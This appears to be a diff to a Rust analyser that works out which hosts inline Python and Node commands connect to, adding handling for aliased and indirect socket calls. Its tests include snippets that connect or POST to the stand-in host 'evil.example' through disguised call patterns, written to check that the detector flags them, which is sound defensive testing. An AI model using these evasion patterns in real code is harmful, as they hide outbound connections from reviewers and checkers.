@@ -6,6 +6,16 @@ use super::uses::{Argument, Code, Given};
 /// The host that a function which opens a connection is given: `('db.example', 5432)`, `5432, 'db.example'`, an address,
 /// or a field of that name.
 pub(super) fn host(arguments: &[Argument]) -> Option<String> {
+    // Of other fields one may lead elsewhere: `lookup`, `__proto__`, what is spread.
+    const PLAIN: &[&str] = &["host", "hostname", "port", "timeout", "family"];
+    let is_plain = |field: &Argument| field.name.as_deref().is_some_and(|name| PLAIN.contains(&name));
+    let leads_elsewhere = arguments.iter().any(|argument| match &argument.given {
+        Given::Fields(fields) => !fields.iter().all(is_plain),
+        Given::One(_) | Given::Many(_) => false,
+    });
+    if leads_elsewhere {
+        return None;
+    }
     if let Some(named) = super::acts::option(arguments, &["host", "hostname"]) {
         return named.value().known().map(str::to_owned);
     }
@@ -77,20 +87,27 @@ pub(super) fn of_sockets(code: &Code<'_>) -> Option<Vec<String>> {
         if !CONNECT.iter().any(|name| token.is(name)) {
             continue;
         }
-        let is_imported = code.is(at.wrapping_sub(1), "import")
-            || code.is(at + 1, ",")
-            || code.tokens.get(at + 1).is_none_or(|token| token.kind == Kind::Line);
-        match code.is(at + 1, "(") {
-            true => hosts.push(host(&code.arguments(at + 1))?),
-            false if is_imported => {}
+        if code.is(at + 1, "(") {
+            hosts.push(host(&code.arguments(at + 1))?);
+        } else if !is_imported(code, at) {
             // It is handed on.
-            false => return None,
+            return None;
         }
     }
     hosts.sort_unstable();
     hosts.dedup();
     Some(hosts)
 }
+
+/// Whether a name stands in an import, and keeps its own name there.
+fn is_imported(code: &Code<'_>, at: usize) -> bool {
+    let before = code.tokens.get(..at).unwrap_or_default().iter().rev().take(MOST_IMPORTED);
+    let mut line = before.take_while(|token| token.kind != Kind::Line && !token.is(";"));
+    !code.is(at.wrapping_sub(1), ".") && !code.is(at + 1, "as") && line.any(|token| token.is("import"))
+}
+
+/// Tokens of an import that are looked at.
+const MOST_IMPORTED: usize = 100;
 
 #[cfg(test)]
 mod tests {
@@ -108,7 +125,14 @@ mod tests {
             let found = check(&format!("python3 -c \"{code}\""));
             assert!(!found.contains("net.send *") && !found.contains("opaque"), "{code}: {found}");
         }
+        for code in
+            ["{port: 80, host: 'localhost', lookup: f}", "{port: 80, ...x}", "{port: 80, __proto__: x}"]
+        {
+            let found = check(&format!("node -e \"require('net').connect({code})\""));
+            assert!(found.contains("net.send *"), "{code}: {found}");
+        }
         for code in [
+            "require('net').connect({port: 5432, host: 'localhost'})",
             "require('net').connect(5432, 'localhost')",
             "require('net').connect(5432)",
             "new WebSocket('ws://localhost:3000/x')",
@@ -128,6 +152,13 @@ mod tests {
                 "*",
             ),
             ("import socket; s = socket.socket(); f = s.connect; f(('evil.example', 1))", "*"),
+            ("import socket\ns = socket.socket()\nf = s.connect\nf(('evil.example', 1))", "*"),
+            ("import socket\ns = socket.socket()\n(s.connect, 1)[0](('evil.example', 1))", "*"),
+            ("from socket import create_connection as c\nc(('evil.example', 1))", "*"),
+            (
+                "from http.client import HTTPConnection\nc = HTTPConnection('localhost')\nc.host = 'evil.example'",
+                "*",
+            ),
             (
                 "import http.client as c; c.HTTPConnection('evil.example').request('POST', '/')",
                 "evil.example",
